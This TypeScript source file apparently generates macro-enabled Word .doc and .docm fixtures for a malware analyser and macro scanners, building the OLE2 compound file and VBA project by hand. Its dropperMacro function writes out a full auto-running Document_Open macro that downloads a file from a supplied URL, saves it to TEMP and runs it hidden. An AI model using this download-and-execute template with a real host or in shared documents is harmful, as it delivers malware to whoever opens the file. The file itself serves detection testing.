/**
 * Macro-enabled Office documents for the malware samples, built from scratch: a compound file
 * (CFB/OLE2, [MS-CFB] version 3) holding a VBA project ([MS-OVBA]) whose module auto-runs
 * `Document_Open`, as a Word 97 `.doc` and inside a `.docm` (OOXML zip with `word/vbaProject.bin`).
 *
 * The macro source is inert text (it names a download URL under .example and calls nothing real);
 * what matters is the structure the analyser and every macro scanner key on.
 *
 * Only small streams are written (each under the 4,096-byte mini-stream cutoff), so every stream lives
 * in the mini stream and the writer needs no regular-stream chains.
 */
import { zipSync } from 'fflate';

const FREE = 0xffffffff;
const END_OF_CHAIN = 0xfffffffe;
const FAT_SECTOR = 0xfffffffd;
const SECTOR = 512;
const MINI_SECTOR = 64;
const MINI_CUTOFF = 4096;
/** Zip entry times: fixed, so the same seed gives byte-identical attachments. */
const ZIP_MTIME = new Date('2026-01-05T09:00:00Z');

export interface CfbNode {
  name: string;
  /** Stream content (under 4,096 bytes); absent for a storage. */
  data?: Buffer;
  children?: CfbNode[];
}

interface Entry {
  node: CfbNode;
  type: 1 | 2 | 5;
  child: number;
  right: number;
  start: number;
  size: number;
}

/** A CFB file of `root`'s streams and storages. */
export function buildCfb(root: CfbNode[]): Buffer {
  const entries: Entry[] = [{ node: { name: 'Root Entry', children: root }, type: 5, child: FREE, right: FREE, start: END_OF_CHAIN, size: 0 }];
  flatten(entries, 0);
  const miniFat: number[] = [];
  const miniParts: Buffer[] = [];
  for (const entry of entries) {
    const data = entry.node.data;
    if (entry.type !== 2 || data === undefined || data.length === 0) continue;
    if (data.length >= MINI_CUTOFF) throw new Error(`CFB stream ${entry.node.name} is ${data.length} bytes; the demo writer keeps streams under ${MINI_CUTOFF}.`);
    entry.start = miniFat.length;
    entry.size = data.length;
    const count = Math.ceil(data.length / MINI_SECTOR);
    for (let i = 0; i < count; i++) miniFat.push(i === count - 1 ? END_OF_CHAIN : miniFat.length + 1);
    miniParts.push(pad(data, MINI_SECTOR));
  }
  const miniStream = Buffer.concat(miniParts);
  const directory = Buffer.alloc(Math.ceil(entries.length / 4) * SECTOR);
  const miniFatBytes = pad(words(miniFat), SECTOR);
  const chains = [directory, miniFatBytes, pad(miniStream, SECTOR)].map((data) => ({ data, start: 0 }));
  const dataSectors = chains.reduce((n, c) => n + c.data.length / SECTOR, 0);
  let fatSectors = 1;
  while (fatSectors * 128 < dataSectors + fatSectors) fatSectors++;
  const fat: number[] = new Array<number>(fatSectors).fill(FAT_SECTOR);
  for (const chain of chains) {
    chain.start = fat.length;
    const count = chain.data.length / SECTOR;
    for (let i = 0; i < count; i++) fat.push(i === count - 1 ? END_OF_CHAIN : fat.length + 1);
  }
  while (fat.length < fatSectors * 128) fat.push(FREE);
  entries[0]!.start = miniStream.length === 0 ? END_OF_CHAIN : chains[2]!.start;
  entries[0]!.size = miniStream.length;
  writeDirectory(directory, entries);
  const head = header(fatSectors, chains[0]!.start, miniFat.length === 0 ? END_OF_CHAIN : chains[1]!.start, miniFatBytes.length / SECTOR);
  return Buffer.concat([head, words(fat), ...chains.map((c) => c.data)]);
}

/** Each storage's children linked as a right-leaning chain: a valid (all-black) red-black tree. */
function flatten(entries: Entry[], parent: number): void {
  let previous = -1;
  for (const node of entries[parent]!.node.children ?? []) {
    const index = entries.length;
    entries.push({ node, type: node.data === undefined ? 1 : 2, child: FREE, right: FREE, start: node.data === undefined ? 0 : END_OF_CHAIN, size: 0 });
    if (previous === -1) entries[parent]!.child = index;
    else entries[previous]!.right = index;
    previous = index;
    if (node.data === undefined) flatten(entries, index);
  }
}

function writeDirectory(directory: Buffer, entries: Entry[]): void {
  for (let i = 0; i < directory.length / 128; i++) {
    const at = i * 128;
    directory.writeUInt32LE(FREE, at + 68);
    directory.writeUInt32LE(FREE, at + 72);
    directory.writeUInt32LE(FREE, at + 76);
    const entry = entries[i];
    if (entry === undefined) continue;
    const name = Buffer.from(`${entry.node.name}\0`, 'utf16le');
    name.copy(directory, at, 0, Math.min(64, name.length));
    directory.writeUInt16LE(Math.min(64, name.length), at + 64);
    directory[at + 66] = entry.type;
    directory[at + 67] = 1; // black
    directory.writeUInt32LE(entry.right, at + 72);
    directory.writeUInt32LE(entry.child, at + 76);
    directory.writeUInt32LE(entry.start, at + 116);
    directory.writeUInt32LE(entry.size, at + 120);
  }
}

function header(fatSectors: number, directoryStart: number, miniFatStart: number, miniFatSectors: number): Buffer {
  const out = Buffer.alloc(SECTOR);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(out, 0);
  out.writeUInt16LE(0x3e, 0x18); // minor version
  out.writeUInt16LE(3, 0x1a); // major version 3: 512-byte sectors
  out.writeUInt16LE(0xfffe, 0x1c); // little-endian
  out.writeUInt16LE(9, 0x1e); // sector shift: 2^9
  out.writeUInt16LE(6, 0x20); // mini sector shift: 2^6
  out.writeUInt32LE(fatSectors, 0x2c);
  out.writeUInt32LE(directoryStart, 0x30);
  out.writeUInt32LE(MINI_CUTOFF, 0x38);
  out.writeUInt32LE(miniFatStart, 0x3c);
  out.writeUInt32LE(miniFatSectors, 0x40);
  out.writeUInt32LE(END_OF_CHAIN, 0x44); // no DIFAT sectors
  for (let i = 0; i < 109; i++) out.writeUInt32LE(i < fatSectors ? i : FREE, 0x4c + i * 4);
  return out;
}

function words(values: number[]): Buffer {
  const out = Buffer.alloc(values.length * 4);
  values.forEach((value, i) => out.writeUInt32LE(value >>> 0, i * 4));
  return out;
}

function pad(data: Buffer, unit: number): Buffer {
  if (data.length % unit === 0) return data;
  const padded = Buffer.alloc(Math.ceil(data.length / unit) * unit);
  data.copy(padded);
  return padded;
}

/** An [MS-OVBA] CompressedContainer of `text` in literal tokens only: valid input for any decompressor. */
export function ovbaCompress(text: string): Buffer {
  const data = Buffer.from(text, 'latin1');
  const chunks: Buffer[] = [Buffer.from([0x01])];
  for (let start = 0; start < data.length; start += 3640) {
    const piece = data.subarray(start, Math.min(data.length, start + 3640));
    const tokens: Buffer[] = [];
    for (let i = 0; i < piece.length; i += 8) tokens.push(Buffer.from([0x00]), piece.subarray(i, i + 8));
    const body = Buffer.concat(tokens);
    const chunkHeader = Buffer.alloc(2);
    chunkHeader.writeUInt16LE(0xb000 | (body.length - 1)); // compressed flag, signature 0b011, size − 3 (+2 header)
    chunks.push(chunkHeader, body);
  }
  return Buffer.concat(chunks);
}

/** The VBA storages of a project with one document module holding `source`. */
function vbaStorages(source: string): CfbNode[] {
  // Real module streams start with compiled p-code; a run of filler stands in for it.
  const module = Buffer.concat([Buffer.alloc(256, 0x42), ovbaCompress(source)]);
  return [
    { name: 'PROJECT', data: Buffer.from('ID="{5D1A3B4E-0C2F-4E6A-9B7D-1F2E3D4C5B6A}"\r\nDocument=ThisDocument/&H00000000\r\nName="Project"\r\n', 'latin1') },
    {
      name: 'VBA',
      children: [
        { name: '_VBA_PROJECT', data: Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]) },
        { name: 'dir', data: ovbaCompress('Attribute VB_Name = "dir"') },
        { name: 'ThisDocument', data: module },
      ],
    },
  ];
}

/** The source of an auto-running macro that would fetch and start a payload (inert: nothing here runs). */
export function dropperMacro(url: string, fileName: string): string {
  return [
    'Attribute VB_Name = "ThisDocument"',
    'Attribute VB_Base = "1Normal.ThisDocument"',
    'Private Sub Document_Open()',
    '    Dim http As Object, stream As Object, target As String',
    `    target = Environ("TEMP") & "\\${fileName}"`,
    '    Set http = CreateObject("MSXML2.XMLHTTP")',
    `    http.Open "GET", "${url}", False`,
    '    http.Send',
    '    Set stream = CreateObject("ADODB.Stream")',
    '    stream.Type = 1: stream.Open: stream.Write http.responseBody',
    '    stream.SaveToFile target, 2',
    '    CreateObject("WScript.Shell").Run target, 0',
    'End Sub',
    '',
  ].join('\r\n');
}

/** A Word 97 document (`WordDocument` stream, `Macros` storage) with the macro. */
export function macroDoc(source: string): Buffer {
  return buildCfb([{ name: 'WordDocument', data: Buffer.alloc(2048, 0x20) }, { name: 'Macros', children: vbaStorages(source) }]);
}

/** A macro-enabled Word document (.docm): OOXML parts plus `word/vbaProject.bin`. */
export function macroDocm(source: string, paragraph: string): Buffer {
  const xml = (text: string) => new TextEncoder().encode(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${text}`);
  const escaped = paragraph.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  const files = {
    '[Content_Types].xml': xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
    '_rels/.rels': xml('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    'word/document.xml': xml(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${escaped}</w:t></w:r></w:p></w:body></w:document>`),
    'word/_rels/document.xml.rels': xml('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'),
    'word/vbaProject.bin': new Uint8Array(buildCfb(vbaStorages(source))),
  };
  return Buffer.from(zipSync(files, { mtime: ZIP_MTIME }));
}

/** A zip of `entries` (name → bytes) with fixed times. */
export function zipOf(entries: Record<string, Uint8Array>): Buffer {
  return Buffer.from(zipSync(entries, { mtime: ZIP_MTIME }));
}
